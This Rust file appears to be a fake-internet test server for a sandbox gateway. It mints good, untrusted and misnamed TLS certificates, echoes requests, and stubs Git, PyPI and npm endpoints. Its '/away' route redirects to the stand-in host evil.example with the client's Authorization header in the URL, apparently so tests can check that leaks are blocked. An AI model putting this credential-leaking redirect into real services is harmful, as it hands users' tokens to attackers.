//! What the places of the pretended internet say: TLS where a client begins it, HTTP, and any other bytes given back.
//!
//! An answer tells what arrived, so that a test in a sandbox sees what was made of its request on the way.

use std::{
    io::{self, Read, Write},
    net::{SocketAddr, TcpStream},
    sync::Arc,
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail};
use rcgen::{
    CertificateParams, DistinguishedName, DnType, ExtendedKeyUsagePurpose, Issuer, KeyPair, SigningKey,
};
use serde_json::json;
use tokio_rustls::rustls::{
    self, ServerConfig, ServerConnection,
    crypto::aws_lc_rs::{default_provider, sign::any_supported_type},
    pki_types::{CertificateDer, PrivateKeyDer, pem::PemObject},
    server::{ClientHello, ResolvesServerCert},
    sign::CertifiedKey,
};

/// The names that its certificate is for.
const NAMES: [&str; 9] = [
    "allowed.example",
    "granted.example",
    "web.example",
    "tcp.example",
    "api.allowed.example",
    "evil.example",
    "denied.example",
    "*.wild.example",
    "*.bad.example",
];
/// A site for which nobody vouches, and one whose certificate is good for another name.
const UNVOUCHED: &str = "unvouched.wild.example";
const MISNAMED: &str = "misnamed.wild.example";
/// How long a client may say nothing.
const SILENCE: Duration = Duration::from_secs(30);
/// How long a stream goes on.
const LONGEST: Duration = Duration::from_secs(300);
/// From a tick of a stream to the next.
const TICK: Duration = Duration::from_millis(50);
/// Most bytes of a head, and of a body.
const MOST: usize = 256 * 1024;

/// What each place serves.
pub(super) struct Site {
    tls: Arc<ServerConfig>,
    certificate: String,
}

/// Which site has which certificate.
#[derive(Debug)]
struct Certificates {
    good: Arc<CertifiedKey>,
    unvouched: Arc<CertifiedKey>,
    misnamed: Arc<CertifiedKey>,
}

impl ResolvesServerCert for Certificates {
    fn resolve(&self, hello: ClientHello<'_>) -> Option<Arc<CertifiedKey>> {
        Some(match hello.server_name() {
            Some(UNVOUCHED) => self.unvouched.clone(),
            Some(MISNAMED) => self.misnamed.clone(),
            _ => self.good.clone(),
        })
    }
}

impl Site {
    /// By an authority, certificate and key as PEM: some tools trust no certificate that vouches for itself.
    pub(super) fn new(authority: &str) -> Result<Self> {
        let der = CertificateDer::from_pem_slice(authority.as_bytes())?;
        let key = KeyPair::try_from(&PrivateKeyDer::from_pem_slice(authority.as_bytes())?)?;
        let issuer = Issuer::from_ca_cert_der(&der, key)?;
        let mut nobody = CertificateParams::default();
        nobody.distinguished_name.push(DnType::CommonName, "nobody's authority");
        let nobody = Issuer::new(nobody, KeyPair::generate()?);
        let certificates = Certificates {
            good: certified(&NAMES, &issuer)?,
            unvouched: certified(&[UNVOUCHED], &nobody)?,
            misnamed: certified(&["another.example"], &issuer)?,
        };
        let tls = ServerConfig::builder_with_provider(Arc::new(default_provider()))
            .with_safe_default_protocol_versions()?
            .with_no_client_auth()
            .with_cert_resolver(Arc::new(certificates));
        let end = "-----END CERTIFICATE-----\n";
        let length = authority.find(end).context("no certificate")? + end.len();
        Ok(Self { tls: Arc::new(tls), certificate: authority[..length].to_owned() })
    }

    /// The authority's certificate, as PEM.
    pub(super) fn certificate(&self) -> &str {
        &self.certificate
    }

    /// Serves one connection to its end, whatever that is.
    pub(super) fn serve(&self, stream: TcpStream, place: SocketAddr) {
        // A client that breaks off is none of the world's affairs.
        let _ = self.converse(stream, place);
    }

    fn converse(&self, mut stream: TcpStream, place: SocketAddr) -> Result<()> {
        stream.set_read_timeout(Some(SILENCE))?;
        stream.set_write_timeout(Some(SILENCE))?;
        stream.set_nodelay(true)?;
        let mut first = [0];
        if stream.peek(&mut first)? == 0 {
            return Ok(());
        }
        match first[0] {
            0x16 => {
                let mut session = ServerConnection::new(self.tls.clone())?;
                while session.is_handshaking() {
                    session.complete_io(&mut stream)?;
                }
                let name = session.server_name().unwrap_or_default().to_owned();
                answer(&mut rustls::Stream::new(&mut session, &mut stream), place, Some(&name))
            }
            b'A'..=b'Z' => answer(&mut stream, place, None),
            _ => {
                let mut back = stream.try_clone()?;
                io::copy(&mut stream, &mut back)?;
                Ok(())
            }
        }
    }
}

/// A certificate for some names.
fn certified(names: &[&str], issuer: &Issuer<'_, impl SigningKey>) -> Result<Arc<CertifiedKey>> {
    let mut site = CertificateParams::new(names.iter().map(ToString::to_string).collect::<Vec<_>>())?;
    site.distinguished_name = DistinguishedName::new();
    site.distinguished_name.push(DnType::CommonName, "a site of the world");
    site.extended_key_usages = vec![ExtendedKeyUsagePurpose::ServerAuth];
    site.use_authority_key_identifier_extension = true;
    let key = KeyPair::generate()?;
    let made = site.signed_by(&key, issuer)?;
    let key = PrivateKeyDer::try_from(key.serialize_der()).map_err(anyhow::Error::msg)?;
    Ok(Arc::new(CertifiedKey::new(vec![made.der().clone()], any_supported_type(&key)?)))
}

/// Answers requests until the client has had enough.
fn answer(stream: &mut (impl Read + Write), place: SocketAddr, name: Option<&str>) -> Result<()> {
    let mut bytes = Vec::new();
    loop {
        let Some(head) = head(stream, &mut bytes)? else { return Ok(()) };
        println!("request {place} {}", serde_json::to_string(&head)?);
        body(stream, &mut bytes, &head)?;
        let path = head.split(' ').nth(1).unwrap_or_default();
        let path = path.split('?').next().unwrap_or_default();
        if path == "/stream" {
            return ticks(stream);
        }
        let host = field(&head, "host").unwrap_or_default();
        if path == "/away" {
            // Leads elsewhere with all that it was told.
            let told = field(&head, "authorization").unwrap_or_default().replace(' ', "+");
            write!(
                stream,
                "HTTP/1.1 302 Found\r\nLocation: https://evil.example/?t={told}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            )?;
            stream.flush()?;
            return Ok(());
        }
        let told =
            || json!({"place": place.to_string(), "sni": name, "host": host, "head": head}).to_string();
        let (kind, text) =
            page(path).map_or_else(|| ("application/json", told()), |(k, t)| (k, t.to_owned()));
        let last = field(&head, "connection").is_some_and(|value| value.eq_ignore_ascii_case("close"));
        let text = if head.starts_with("HEAD ") { String::new() } else { text };
        // What would lead past the gateway must not reach the client where the gateway sees answers.
        write!(
            stream,
            "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nAlt-Svc: h3=\":443\"\r\n\r\n{text}",
            text.len()
        )?;
        stream.flush()?;
        if last {
            return Ok(());
        }
    }
}

/// What ordinary tools ask for: just enough of a Git repository, a Python index and an npm registry.
fn page(path: &str) -> Option<(&'static str, &'static str)> {
    match path {
        "/repo.git/info/refs" => {
            Some(("text/plain", "0123456789abcdef0123456789abcdef01234567\trefs/heads/main\n"))
        }
        "/repo.git/HEAD" => Some(("text/plain", "ref: refs/heads/main\n")),
        "/simple/tiny/" => {
            Some(("text/html", "<a href=\"tiny-1.0-py3-none-any.whl\">tiny-1.0-py3-none-any.whl</a>"))
        }
        "/-/ping" => Some(("application/json", "{}")),
        _ => None,
    }
}

fn head(stream: &mut impl Read, bytes: &mut Vec<u8>) -> Result<Option<String>> {
    let end = |bytes: &[u8]| bytes.windows(4).position(|four| four == b"\r\n\r\n");
    while end(bytes).is_none() {
        if bytes.len() > MOST || more(stream, bytes)? == 0 {
            return Ok(None);
        }
    }
    let length = end(bytes).unwrap_or_default() + 4;
    let rest = bytes.split_off(length);
    let head = std::mem::replace(bytes, rest);
    Ok(Some(String::from_utf8_lossy(&head).into_owned()))
}

fn body(stream: &mut impl Read, bytes: &mut Vec<u8>, head: &str) -> Result<()> {
    let length = field(head, "content-length").and_then(|value| value.parse::<usize>().ok());
    let chunked = field(head, "transfer-encoding").is_some();
    let end = |bytes: &[u8]| match length {
        _ if chunked => bytes.windows(5).position(|five| five == b"0\r\n\r\n").map(|at| at + 5),
        length => Some(length.unwrap_or_default()).filter(|length| *length <= bytes.len()),
    };
    loop {
        if let Some(length) = end(bytes) {
            bytes.drain(..length);
            return Ok(());
        }
        if bytes.len() > MOST || more(stream, bytes)? == 0 {
            bail!("no whole body");
        }
    }
}

fn more(stream: &mut impl Read, bytes: &mut Vec<u8>) -> io::Result<usize> {
    let mut buffer = [0; 4096];
    let read = stream.read(&mut buffer)?;
    bytes.extend(&buffer[..read]);
    Ok(read)
}

fn field<'h>(head: &'h str, name: &str) -> Option<&'h str> {
    let fields = head.lines().skip(1).filter_map(|line| line.split_once(':'));
    fields
        .into_iter()
        .find(|(field, _)| field.trim().eq_ignore_ascii_case(name))
        .map(|(_, value)| value.trim())
}

/// Goes on until the client goes, for tests of what closes a connection that is open.
fn ticks(stream: &mut impl Write) -> Result<()> {
    stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\n\r\n")?;
    let start = Instant::now();
    while start.elapsed() < LONGEST {
        stream.write_all(b"tick\n")?;
        stream.flush()?;
        thread::sleep(TICK);
    }
    Ok(())
}
